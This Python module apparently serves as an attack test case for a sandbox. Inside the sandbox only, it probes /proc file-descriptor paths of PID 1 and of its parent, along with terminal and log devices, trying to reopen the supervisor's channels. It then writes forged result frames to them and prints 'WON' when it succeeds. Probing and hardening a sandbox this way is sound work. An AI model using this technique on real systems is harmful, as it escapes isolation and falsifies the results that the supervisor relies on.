"""Opens the descriptors of its supervisor again by their names in /proc and /dev, and answers there.

Attacks: A5, W5, W8
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import struct

ANSWER = b'{"$d": [["value", -1.0], ["shifted", -1.0]]}'
BODY = struct.pack(">I", len(ANSWER)) + ANSWER
FRAMES = [struct.pack(">I8sB", len(BODY), bytes(8), 2) + BODY, struct.pack(">IB", len(BODY), 2) + BODY]


def _places():
    for pid in {1, os.getppid()}:
        for number in range(64):
            yield f"/proc/{pid}/fd/{number}"
            yield f"/proc/{pid}/task/{pid}/fd/{number}"
            yield f"/proc/{pid}/map_files/{number}"
    yield from ("/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/stdin", "/proc/kmsg", "/dev/log")


def mean(numbers):
    own = {os.fstat(number).st_ino for number in (0, 1, 2)}
    for place in _places():
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_RDONLY):
            try:
                opened = os.open(place, flags | os.O_NONBLOCK | os.O_NOCTTY)
            except OSError:
                continue
            if os.fstat(opened).st_ino not in own:
                print("WON: opened", place, flush=True)
            for frame in FRAMES:
                try:
                    os.write(opened, frame)
                except OSError:
                    continue
    return 0.0


def spread(numbers):
    return 0.0
